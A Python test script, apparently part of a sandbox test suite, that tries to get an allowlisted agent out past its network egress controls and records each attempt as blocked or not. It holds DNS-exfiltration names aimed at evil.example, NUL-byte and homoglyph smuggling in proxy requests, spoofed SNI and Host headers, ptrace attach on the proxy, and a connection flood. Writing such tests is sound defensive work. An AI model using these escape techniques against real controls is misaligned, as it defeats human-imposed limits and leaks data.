"""Egress: an allowlist agent tries to reach what its allowlist does not name.

The agent may reach http.agentd.test, tls.agentd.test and echo.agentd.test
on their ports (targets: ports), nothing else. Every other way out is tried:
names and ports not listed, IPv4 and IPv6 literals, DNS for an unlisted name
(through the resolver, straight to a TEST-NET server, over TCP, with a NUL
byte in a label), UDP, TLS with another SNI or none, HTTP with another Host,
the explicit proxy with names it must refuse, agentd's own sockets, raw and
packet sockets, the proxy process by signal and ptrace, and a flood of
connections. A connection agentd's proxy refuses is accepted by the kernel
and then closed: that counts as BLOCKED here ("closed"); the host's servers
decide whether anything got through.
"""
import os
import socket
import ssl
import struct
import time

from escapelib import Blocked, attempt, done, fact, new_socket, syscall, targets

t = targets()
P = t["ports"]
ZONE = "agentd.test"
TAG = t["tag"]


def _recv_all(s, limit=65536):
    out = b""
    while len(out) < limit:
        try:
            chunk = s.recv(65536)
        except ConnectionResetError:
            break
        if not chunk:
            break
        out += chunk
    return out


def http(host, port, host_header, via_proxy=False):
    def go():
        with socket.create_connection((host, port), timeout=10) as s:
            # Through the proxy, as curl does: absolute form, Host with the port.
            authority = f"{host_header}:{P['http']}" if via_proxy else host_header
            target = f"http://{authority}/{TAG}" if via_proxy else f"/{TAG}"
            s.sendall(f"GET {target} HTTP/1.1\r\nHost: {authority}\r\n"
                      "Connection: close\r\n\r\n".encode("utf-8", "surrogateescape"))
            data = _recv_all(s)
        if b"hello from upstream" in data:
            return "got-upstream-answer"
        raise Blocked(f"closed-{data[:40]!r}")
    return go


def tcp_echo(host, port, payload=None):
    def go():
        try:
            s = socket.create_connection((host, port), timeout=10)
        except socket.gaierror as err:
            raise Blocked(f"gaierror-{err.errno}") from None
        with s:
            s.sendall(payload or f"{TAG}\n".encode())
            s.settimeout(5)
            try:
                data = s.recv(4096)
            except ConnectionResetError:
                data = b""
            except TimeoutError:
                raise Blocked("no-answer") from None
        if data:
            return f"echoed-{len(data)}"
        raise Blocked("closed")
    return go


def tls(host, port, sni):
    def go():
        ctx = ssl.create_default_context()
        ctx.check_hostname = False
        ctx.verify_mode = ssl.CERT_NONE
        with socket.create_connection((host, port), timeout=10) as raw:
            try:
                with ctx.wrap_socket(raw, server_hostname=sni) as s:
                    s.sendall(TAG.encode())
                    return f"tls-echo-{len(s.recv(4096))}"
            except (ssl.SSLError, ConnectionResetError, BrokenPipeError) as err:
                raise Blocked(f"handshake-{type(err).__name__}") from None
    return go


def resolve(name):
    def go():
        try:
            infos = socket.getaddrinfo(name, 443, socket.AF_INET, socket.SOCK_STREAM)
        except socket.gaierror as err:
            raise Blocked(f"gaierror-{err.errno}") from None
        return "resolved-" + ",".join(sorted({i[4][0] for i in infos}))
    return go


def _query(qname_labels, qtype=1):
    """A DNS query packet; labels are bytes, so a NUL can be in one."""
    head = struct.pack("!HHHHHH", 0x1234, 0x0100, 1, 0, 0, 0)
    q = b"".join(bytes([len(label)]) + label for label in qname_labels) + b"\0"
    return head + q + struct.pack("!HH", qtype, 1)


def _answered(reply):
    if len(reply) < 12:
        raise Blocked("short-reply")
    rcode = reply[3] & 0x0F
    ancount = struct.unpack("!H", reply[6:8])[0]
    if rcode or not ancount:
        raise Blocked(f"rcode-{rcode}-answers-{ancount}")
    return f"answered-{ancount}"


def dns_udp(server, labels):
    def go():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.settimeout(5)
            s.sendto(_query(labels), (server, 53))
            try:
                reply, _ = s.recvfrom(4096)
            except TimeoutError:
                raise Blocked("no-reply") from None
        return _answered(reply)
    return go


def dns_tcp(server, labels):
    def go():
        with socket.create_connection((server, 53), timeout=10) as s:
            q = _query(labels)
            s.sendall(struct.pack("!H", len(q)) + q)
            s.settimeout(5)
            try:
                head = s.recv(2)
            except (ConnectionResetError, TimeoutError):
                head = b""
            if len(head) < 2:
                raise Blocked("closed")
            return _answered(_recv_all(s, struct.unpack("!H", head)[0]))
    return go


def udp_out(host, port):
    def go():
        with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as s:
            s.sendto(TAG.encode(), (host, port))
        return "sent"
    return go


def proxy_connect(authority):
    def go():
        with socket.create_connection(("127.0.0.1", 3128), timeout=10) as s:
            s.sendall(b"CONNECT " + authority + b" HTTP/1.1\r\nHost: " + authority
                      + b"\r\n\r\n")
            s.settimeout(10)
            try:
                head = s.recv(4096)
            except ConnectionResetError:
                head = b""
        status = head.split(b" ", 2)[1:2]
        if status == [b"200"]:
            return "tunnel-established"
        raise Blocked(f"status-{status[0].decode(errors='replace') if status else 'none'}")
    return go


def flood(n):
    def go():
        opened = 0
        for i in range(n):
            s = socket.socket()
            s.settimeout(2)
            try:
                s.connect((f"192.0.2.{i % 250 + 1}", 443))
                s.sendall(TAG.encode())
                if s.recv(16):
                    opened += 1
            except OSError:
                pass
            finally:
                s.close()
        if opened:
            return f"answered-{opened}"
        raise Blocked(f"all-{n}-closed")
    return go


def signal_pid(pid):
    def go():
        os.kill(pid, 0)
        return "signalled"
    return go


def ptrace_pid(pid):
    def go():
        syscall("ptrace", 16, pid, 0, 0)  # PTRACE_ATTACH
        return "attached"
    return go


# What an allowed agent must be able to do (facts: the test checks them).
for name, fn in (("allowed-http", http(f"http.{ZONE}", P["http"], f"http.{ZONE}")),
                 ("allowed-tls", tls(f"tls.{ZONE}", P["tls"], f"tls.{ZONE}")),
                 ("allowed-echo", tcp_echo(f"echo.{ZONE}", P["echo"])),
                 ("allowed-proxy", http("127.0.0.1", 3128, f"http.{ZONE}", via_proxy=True))):
    try:
        fact(name, fn())
    except Exception as err:
        fact(name, f"FAILED-{type(err).__name__}-{err}")

attempt("name-not-listed", tcp_echo(f"other.{ZONE}", P["other"]))
attempt("port-not-listed", tcp_echo(f"echo.{ZONE}", P["other"]))
attempt("ipv4-literal", tcp_echo("192.0.2.10", P["echo"]))
attempt("ipv6-literal", tcp_echo("2001:db8::10", P["echo"]))
attempt("dns-unlisted-name", resolve(f"secret-data-{TAG}.evil.example"))
attempt("dns-straight-to-a-server", dns_udp("192.0.2.53", [f"x-{TAG}".encode(), b"evil",
                                                           b"example"]))
attempt("dns-over-tcp", dns_tcp("192.0.2.53", [f"tcp-{TAG}".encode(), b"evil", b"example"]))
attempt("dns-nul-in-name", dns_udp("192.0.2.53", [b"evil\0", b"http", b"agentd", b"test"]))
attempt("udp-out", udp_out("192.0.2.1", 9))
attempt("tls-other-sni", tls(f"tls.{ZONE}", P["tls"], f"evil-{TAG}.example"))
attempt("tls-no-sni", tls(f"tls.{ZONE}", P["tls"], None))
attempt("http-other-host", http(f"http.{ZONE}", P["http"], f"evil-{TAG}.example"))
attempt("proxy-unlisted", proxy_connect(f"evil-{TAG}.example:443".encode()))
attempt("proxy-nul-name", proxy_connect(f"evil\0.http.{ZONE}:{P['http']}".encode()))
attempt("proxy-odd-unicode", proxy_connect(f"http.agentd.t\u0435st:{P['http']}".encode()))
attempt("proxy-ip-literal", proxy_connect(f"127.0.0.1:{P['echo']}".encode()))
attempt("capture-listener-direct", tcp_echo("127.0.0.1", 15001))
attempt("raw-socket", new_socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_TCP))
attempt("packet-socket", new_socket(socket.AF_PACKET, socket.SOCK_RAW))
attempt("signal-the-proxy", signal_pid(t["proxy_pid"]))
attempt("ptrace-the-proxy", ptrace_pid(t["proxy_pid"]))
t0 = time.monotonic()
attempt("connection-flood", flood(t.get("flood", 300)))
fact("flood-seconds", f"{time.monotonic() - t0:.1f}")
done()
